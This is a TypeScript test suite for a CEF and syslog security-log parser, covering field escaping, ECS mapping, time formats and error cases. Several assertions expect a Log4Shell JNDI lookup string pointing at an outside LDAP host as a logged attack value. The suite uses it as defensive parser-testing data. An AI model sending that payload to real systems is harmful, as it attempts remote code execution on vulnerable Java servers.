import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { ManualClock } from '../../shared/clock.js';
import { findCef, parseCef, type CefRecord } from './cef-parser.js';
import { parseCefTime } from './cef-time.js';
import { SyslogFramer } from './syslog-framing.js';
import { parseSyslogEvent } from './syslog-event.js';

const dir = fileURLToPath(new URL('../../../../shared/testdata/syslog/', import.meta.url));
const present = existsSync(dir);
if (!present) console.warn(`CEF tests on captures skipped: ${dir} is absent`);
const samples = present ? readFileSync(dir + 'cef-samples.txt', 'utf8').split('\n').filter((l) => l.length > 0) : [];
const clock = new ManualClock(Date.UTC(2026, 10, 25, 20, 0, 0));

function cef(line: string): CefRecord {
  const r = parseCef(line);
  if (!r.ok) throw new Error(`${r.error.code}: ${r.error.message}`);
  return r.value;
}

describe.skipIf(!present)('parseCef on the sample records', () => {
  it('parses all six records', () => {
    expect(samples).toHaveLength(6);
    expect(samples.map((s) => cef(s).deviceVendor)).toEqual(['Security', 'Check Point', 'Fortinet', 'Palo Alto Networks', 'Trend Micro', 'Acme|Corp']);
  });

  it('reads the spec example header and extension', () => {
    expect(cef(samples[0]!)).toEqual({
      version: 0, deviceVendor: 'Security', deviceProduct: 'threatmanager', deviceVersion: '1.0', signatureId: '100',
      name: 'worm successfully stopped', severity: '10', severityScore: 10,
      extensions: { src: '192.0.2.1', dst: '198.51.100.2', spt: '1232' }, labels: {},
    });
  });

  it('keeps spaces inside values and resolves labels', () => {
    const r = cef(samples[1]!);
    expect(r.severity).toBe('Unknown');
    expect(r.severityScore).toBeUndefined();
    expect(r.extensions['product']).toBe('VPN-1 & FireWall-1');
    expect(r.extensions['cs2Label']).toBe('Rule Name');
    expect(r.labels).toEqual({ 'Rule Name': 'Block_Inbound_TOR' });
    expect(Object.keys(r.extensions)).toHaveLength(13);
  });

  it('unescapes \\= in values and keeps vendor keys', () => {
    const pan = cef(samples[3]!);
    expect(pan.extensions['request']).toBe('${jndi:ldap://203.0.113.7:1389/o=reference}');
    expect(pan.extensions['rt']).toBe('Nov 25 2026 19:24:09 GMT');
    expect(pan.extensions['cat']).toBe('Apache Log4j Remote Code Execution Vulnerability(91991)');
    expect(cef(samples[2]!).extensions['FTNTFGTpolicyid']).toBe('7');
  });

  it('unescapes \\\\ and \\n and reads numeric labels', () => {
    const tm = cef(samples[4]!);
    expect(tm.extensions['filePath']).toBe('C:\\Users\\alice\\Downloads\\eicar.com');
    expect(tm.extensions['msg']).toBe('Realtime scan detected a test file\nQuarantined successfully');
    expect(tm.labels).toEqual({ 'Host ID': '1' });
  });

  it('unescapes \\| and \\\\ in the header and keeps UTF-8', () => {
    const acme = cef(samples[5]!);
    expect([acme.deviceVendor, acme.deviceProduct]).toEqual(['Acme|Corp', 'Edge\\Gateway']);
    expect(acme.extensions['reason']).toBe('bad password');
    expect(acme.extensions['msg']).toBe('Näive über-user résumé ✓');
    expect(acme.labels).toEqual({ Realm: 'Employees' });
  });
});

describe.skipIf(!present)('CEF inside syslog', () => {
  it('finds CEF in every RFC 5424 datagram and every RFC 3164 line, with equal results', () => {
    const udp = [1, 2, 3, 4, 5, 6].map((n) => parseSyslogEvent(readFileSync(`${dir}logger-udp-rfc5424-cef.0${n}.udp`), { clock }));
    const framer = new SyslogFramer();
    const frames = [...framer.push(readFileSync(dir + 'logger-tcp-rfc3164-lf-cef.tcp')), ...framer.end()];
    const tcp = frames.map((f) => (f.ok ? parseSyslogEvent(f.value.bytes, { clock }) : f));
    for (const r of [...udp, ...tcp]) {
      expect(r.ok).toBe(true);
      if (r.ok) expect(r.value.sourceFormat).toBe('cef');
    }
    const vendors = (list: typeof udp) => list.map((r) => (r.ok ? r.value.ecs['observer.vendor'] : '')).sort();
    expect(vendors(udp)).toEqual(vendors(tcp));
    const tcpSigs = tcp.map((r) => (r.ok ? (r.value.raw['cef'] as CefRecord).extensions : {}));
    expect(tcpSigs).toEqual(samples.map((s) => cef(s).extensions));
  });

  it('maps the CEF dictionary to ECS and keeps the syslog header', () => {
    const r = parseSyslogEvent(readFileSync(dir + 'logger-udp-rfc5424-cef.04.udp'), { clock });
    if (!r.ok) throw new Error(r.error.message);
    const e = r.value;
    expect(e.time).toBe(Date.UTC(2026, 10, 25, 19, 24, 9));
    expect(e.ecs).toMatchObject({
      '@timestamp': '2026-11-25T19:24:09.000Z', 'event.code': 'vulnerability', 'event.severity': 8, 'event.action': 'reset-both',
      'observer.vendor': 'Palo Alto Networks', 'observer.product': 'PAN-OS', 'source.ip': '203.0.113.7', 'source.port': 41878,
      'destination.ip': '192.0.2.20', 'destination.port': 8080, 'network.transport': 'tcp',
      'url.original': '${jndi:ldap://203.0.113.7:1389/o=reference}', 'user_agent.original': '${jndi:ldap://203.0.113.7:1389/o=reference}',
      'host.name': 'fw-edge01', 'log.syslog.appname': 'cef', 'log.syslog.facility.name': 'local4',
    });
    expect(e.ecs['process.name']).toBeUndefined();
    const withProcess = parseSyslogEvent('<134>Nov 25 19:57:38 fw01 fwd[7]: CEF:0|V|P|1|s|n|5|sproc=sshd spid=42', { clock });
    expect(withProcess.ok && [withProcess.value.ecs['process.name'], withProcess.value.ecs['process.pid'], withProcess.value.ecs['log.syslog.appname']]).toEqual(['sshd', 42, 'fwd']);
    expect((e.raw['syslog'] as { structuredData: unknown }).structuredData).toEqual({ timeQuality: { tzKnown: '1', isSynced: '0' } });
  });

  it('reads epoch-ms rt, protocol numbers, user and file fields', () => {
    const cp = parseSyslogEvent(readFileSync(dir + 'logger-udp-rfc5424-cef.02.udp'), { clock });
    expect(cp.ok && [cp.value.time, cp.value.ecs['network.transport'], cp.value.ecs['event.action']]).toEqual([1795634649000, 'tcp', 'Drop']);
    const tm = parseSyslogEvent(readFileSync(dir + 'logger-udp-rfc5424-cef.05.udp'), { clock });
    expect(tm.ok && [tm.value.ecs['file.name'], tm.value.ecs['observer.hostname'], tm.value.message]).toEqual(['eicar.com', 'web01', 'Realtime scan detected a test file\nQuarantined successfully']);
    const acme = parseSyslogEvent(readFileSync(dir + 'logger-udp-rfc5424-cef.06.udp'), { clock });
    expect(acme.ok && [acme.value.ecs['user.name'], acme.value.ecs['event.outcome'], acme.value.ecs['destination.domain']]).toEqual(['bob', 'failure', 'vpn01.example.com']);
    // No rt: the syslog header time is the event time.
    const worm = parseSyslogEvent(readFileSync(dir + 'logger-udp-rfc5424-cef.01.udp'), { clock });
    expect(worm.ok && worm.value.ecs['@timestamp']).toMatch(/^2026-11-25T19:58:03\.2\d\dZ$/);
  });
});

describe('parseCef edge cases and errors', () => {
  it('keeps an unescaped = inside a value that has no space before it', () => {
    expect(cef('CEF:0|V|P|1|s|n|5|request=http://x/?a=b&c=d act=allow').extensions).toEqual({ request: 'http://x/?a=b&c=d', act: 'allow' });
  });

  it('handles an empty extension and word severities', () => {
    const r = cef('CEF:1|V|P|1|s|n|Very-High|');
    expect([r.version, r.severityScore, r.extensions]).toEqual([1, 10, {}]);
  });

  it('finds CEF after a hostname with no tag, and ignores a bare CEF: word', () => {
    expect(findCef('fw01 CEF:0|V|P|1|s|n|5|a=b')).toBe(5);
    expect(findCef('note CEF: is a format; CEF:0|V|')).toBe(23);
    expect(findCef('no cef here')).toBe(-1);
  });

  it('returns precise errors', () => {
    const short = parseCef('CEF:0|Vendor|Product');
    expect(!short.ok && short.error).toMatchObject({ code: 'CEF_BAD_HEADER', field: 'Device Product', offset: 20 });
    const version = parseCef('CEF:x|V|P|1|s|n|5|a=b');
    expect(!version.ok && version.error).toMatchObject({ code: 'CEF_BAD_HEADER', field: 'Version' });
    const ext = parseCef('CEF:0|V|P|1|s|n|5|just text');
    expect(!ext.ok && ext.error).toMatchObject({ code: 'CEF_BAD_EXTENSION', offset: 18 });
    expect(!parseCef('hello').ok).toBe(true);
    const inSyslog = parseSyslogEvent('<134>Nov 25 19:57:38 fw01 CEF:0|V|P', { clock });
    expect(!inSyslog.ok && inSyslog.error).toMatchObject({ code: 'CEF_BAD_HEADER', offset: 35 });
  });

  it('reads CEF time formats', () => {
    const ref = Date.UTC(2026, 10, 25);
    expect(parseCefTime('1795634649000', ref)).toBe(1795634649000);
    expect(parseCefTime('1795634649', ref)).toBe(1795634649000);
    expect(parseCefTime('Nov 25 2026 19:24:09 GMT', ref)).toBe(Date.UTC(2026, 10, 25, 19, 24, 9));
    expect(parseCefTime('Nov 25 19:24:09.250 +0100', ref)).toBe(Date.UTC(2026, 10, 25, 18, 24, 9, 250));
    expect(parseCefTime('Nov 25 2026 19:24:09 PST', ref)).toBe(Date.UTC(2026, 10, 26, 3, 24, 9));
    expect(parseCefTime('Nov 25 2026 19:24:09 Mars/Olympus', ref)).toBeUndefined();
    expect(parseCefTime('2026-11-25T19:24:09Z', ref)).toBe(Date.UTC(2026, 10, 25, 19, 24, 9));
  });

  it('never throws on random text', () => {
    let seed = 3;
    const alphabet = 'CEF:0|\\= abk1';
    const rand = (n: number): number => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) % n);
    for (let i = 0; i < 3000; i++) {
      const s = 'CEF:' + Array.from({ length: i % 40 }, () => alphabet[rand(alphabet.length)]).join('');
      expect(() => parseCef(s)).not.toThrow();
    }
  });
});
